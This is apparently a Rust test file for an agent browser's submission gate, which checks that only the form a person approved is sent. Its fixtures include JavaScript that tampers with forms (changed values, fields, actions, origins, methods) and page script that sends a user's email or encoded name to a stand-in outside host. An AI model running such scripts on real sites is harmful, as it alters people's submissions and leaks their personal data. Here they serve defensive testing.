//! What was signed leaves, in its order, and nothing in its place.

use agent_browser::gate::{Journal, Stage};

use crate::browser::{Browser, form};
use crate::order::{BODY, Plan};
use crate::site::{Answer, Asked, Site};

/// A page's trick between review and release, and what the gate calls it.
const TRICKS: [(&str, &str); 5] = [
    (
        "value changed",
        "document.querySelector('[name=full_name]').value = 'Mallory';",
    ),
    (
        "field added",
        "document.forms[0].insertAdjacentHTML('beforeend', '<input name=extra value=more>');",
    ),
    ("action changed", "document.forms[0].action = '/other';"),
    (
        "origin changed",
        "document.forms[0].action = 'https://frame.test/apply';",
    ),
    ("method changed", "document.forms[0].method = 'get';"),
];

fn site(page: String) -> impl Future<Output = Site> {
    Site::start(move |asked: &Asked| match asked.target.as_str() {
        "/form" => Answer::html(&page),
        _ => Answer::text("ok"),
    })
}

#[tokio::test]
async fn p1_a_form_that_changed_is_not_sent_and_the_approved_one_is() {
    let site = site(form("")).await;
    for (name, trick) in TRICKS {
        let browser = Browser::start(&site).await;
        let plan = Plan::form();
        let before = site.posts("/apply").len();
        browser.prepare(&plan).await;
        browser.run(trick).await;
        browser.press().await;
        let path = if name == "action changed" {
            "/other"
        } else {
            "/apply"
        };
        browser.until_refused(path).await;
        assert_eq!(browser.gate.forwarded(), 0, "{name}");
        assert_eq!(site.posts("/apply").len(), before, "{name}");
        assert_eq!(
            Journal::read(&plan.journal()).forwarded_at_least(),
            0,
            "{name}"
        );
        let send = format!(
            "fetch('/apply', {{method: 'POST', body: new URLSearchParams('{BODY}')}}).catch(() => 0)"
        );
        // A failed navigation leaves an error page, from which nothing can be sent.
        let page = browser.run("return location.href").await;
        if page == "https://jobs.test/form" {
            browser.run(&send).await;
            browser.until(|stage| stage == Stage::Open).await;
            assert_eq!(site.posts("/apply").len(), before + 1, "{name}");
        }
        browser.end().await;
    }
    let browser = Browser::start(&site).await;
    let before = site.posts("/apply").len();
    browser.prepare(&Plan::form()).await;
    browser.press().await;
    browser.until(|stage| stage == Stage::Open).await;
    assert_eq!(site.posts("/apply").len(), before + 1);
    assert!(site.posts("/other").is_empty());
    browser.end().await;
}

#[tokio::test]
async fn p4_a_file_goes_to_another_origin_first_and_then_the_form() {
    let page = form(
        "<input type=file name=cv><script>document.forms[0].onsubmit = async event => {\
         event.preventDefault(); const form = document.forms[0]; const file = form.cv.files[0];\
         await fetch('https://store.test/up/1', {method: 'PUT', body: file, headers: {'x-upload': '1'}});\
         form.cv.remove(); form.submit(); }</script>",
    );
    let site = site(page).await;
    let browser = Browser::start(&site).await;
    let plan = Plan::form().with_file(30_000).uploading();
    browser.prepare(&plan).await;
    browser.press().await;
    browser.until(|stage| stage == Stage::Open).await;
    browser.gate.close().await;
    assert_eq!(
        site.sending(),
        ["PUT /up/1", "POST /apply"],
        "no preflight, no copy"
    );
    let uploaded = &site.posts("/up/1")[0];
    assert_eq!(uploaded.host, "store.test");
    assert_eq!(uploaded.body, std::fs::read(plan.file()).unwrap());
    assert_eq!(
        Journal::read(&plan.journal()),
        Journal::Spent {
            release: 1,
            answered: true
        }
    );
    browser.end().await;
}

#[tokio::test]
async fn p4_a_challenge_is_asked_with_nothing_of_the_person() {
    let ask = |body: &str| {
        format!(
            "<input type=hidden name=token><script>document.forms[0].onsubmit = async event => {{\
             event.preventDefault(); const form = document.forms[0];\
             const options = {{method: 'POST', mode: 'no-cors', body: {body}}};\
             await fetch('https://captcha.test/token', options).catch(() => 0);\
             form.token.value = 'a1b2c3'; form.submit(); }}</script>"
        )
    };
    for (body, asked) in [
        ("'page=1'", 1),
        ("form.email.value", 0),
        ("btoa('x' + form.full_name.value)", 0),
    ] {
        let site = site(form(&ask(body))).await;
        let browser = Browser::start(&site).await;
        let mut plan = Plan::form();
        plan.manifest.snapshots[0].volatile.push("token".to_owned());
        browser.prepare(&plan).await;
        browser.press().await;
        browser.until(|stage| stage == Stage::Open).await;
        browser.gate.close().await;
        assert_eq!(site.posts("/token").len(), asked, "{body}");
        assert_eq!(site.posts("/apply").len(), 1, "{body}");
        browser.end().await;
    }
}
